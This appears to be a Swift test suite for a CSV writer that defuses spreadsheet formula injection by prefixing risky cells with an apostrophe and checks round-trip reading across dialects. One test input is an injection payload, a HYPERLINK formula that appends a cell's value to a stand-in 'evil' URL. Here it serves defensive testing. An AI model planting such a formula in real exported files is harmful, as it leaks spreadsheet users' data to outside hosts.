import Formats
import Testing

struct CSVWriterTests {
    @Test func `the French dialect is what a French spreadsheet opens`() {
        var writer = CSVWriter(header: ["clé", "heures"], dialect: .excelFrench)
        writer.append(["é;1", writer.number(12.5)])
        #expect(Array(writer.text.utf8) == Array("\u{FEFF}clé;heures\r\n\"é;1\";\"12,5\"\r\n".utf8))
    }

    @Test(arguments: ["=1+1", "+33 1", "-5", "@SUM(A1)", "\tx", "\rx", "'=x", "''", "'-"])
    func `a cell that a spreadsheet would run is written as text, and read back`(cell: String) {
        let written = CSVFormula.neutralised(cell)
        #expect(written == "'" + cell)
        #expect(CSVFormula.restored(written) == cell)
    }

    @Test(arguments: [
        ("x;=1+1;y", "x;'=1+1;y"), ("a, =b", "a, '=b"), ("a|@b", "a|'@b"), ("a\n-1", "a\n'-1"), ("a\t\u{A0}+1", "a\t\u{A0}'+1"),
        ("a;\"=b\"", "a;\"'=b\""), ("a;'=b", "a;''=b"), ("a;''\u{FF1D}b", "a;'''\u{FF1D}b"), ("=a;=b", "'=a;'=b"), (";=", ";'="),
        ("\r\n=a", "'\r\n'=a"), ("x;=HYPERLINK(\"http://evil\"&A2;\"Lyon\");y", "x;'=HYPERLINK(\"http://evil\"&A2;\"Lyon\");y"),
    ])
    func `what another separator would lay bare is written as text too, and read back`(cell: String, written: String) throws {
        #expect(CSVFormula.neutralised(cell) == written)
        #expect(CSVFormula.restored(written) == cell)
        var writer = CSVWriter(header: ["a", "b"])
        writer.append(["x\(cell)", "y"])
        var table = try CSVTable(Array(writer.text.utf8), file: "t.csv")
        var record = CSVRecord()
        let isRead = try table.read(into: &record)
        #expect(isRead && table.text(record, 0) == "x\(cell)")
    }

    @Test(arguments: [
        "négociation:3;anglais:2", "mon 08:00-12:00;tue 10:00-12:00", "fr:C2, en:B2", "a;'b", "l'été; l'hiver", "a;' =b", "a;';'", ";;'",
        "a=b;c-d,e+f",
    ])
    func `a list of anything else is left as it is`(cell: String) {
        #expect(CSVFormula.neutralised(cell) == cell)
        #expect(CSVFormula.restored(cell) == cell)
    }

    @Test(arguments: ["", "'t Hooft", "a=b", "1-2", "'", "é", "«=»"])
    func `other cells are left as they are`(cell: String) {
        #expect(CSVFormula.neutralised(cell) == cell)
        #expect(CSVFormula.restored(cell) == cell)
    }

    @Test(arguments: CSVWriter.Dialect.allCases)
    func `a quotation mark under an accent ends no cell, and lets no formula out`(dialect: CSVWriter.Dialect) throws {
        let cell = "Zoé\"\u{301},=HYPERLINK(0);=HYPERLINK(0)"
        var writer = CSVWriter(header: ["a", "b"], dialect: dialect)
        writer.append([cell, "x"])
        let read = try records(Array(writer.text.utf8)).dropFirst().map { $0.map { Array(CSVFormula.restored($0).utf8) } }
        #expect(read == [[Array(cell.utf8), Array("x".utf8)]])
    }

    @Test(arguments: CSVWriter.Dialect.allCases)
    func `whatever is written is read back`(dialect: CSVWriter.Dialect) throws {
        let seed: UInt64 = 7_041
        var dice = SeededGenerator(seed: seed)
        let pieces = ["a", "é", "中", "\"", ";", ",", "|", "\t", "\n", "\r\n", "\r", "=", "'", "-", " ", "😀", "sep=;", "\u{301}"]
        for round in 0..<300 {
            let width = Int.random(in: 1...5, using: &dice)
            let rows = (0..<Int.random(in: 1...6, using: &dice)).map { _ in
                (0..<width).map { _ in
                    (0..<Int.random(in: 0...5, using: &dice)).map { _ in pieces.randomElement(using: &dice) ?? "" }.joined()
                }
            }
            var writer = CSVWriter(header: (0..<width).map { "column \($0)" }, dialect: dialect)
            for row in rows { writer.append(row) }
            let read = try records(Array(writer.text.utf8)).dropFirst().map { $0.map(CSVFormula.restored) }
            #expect(read == rows, "seed \(seed), round \(round)")
        }
    }
}
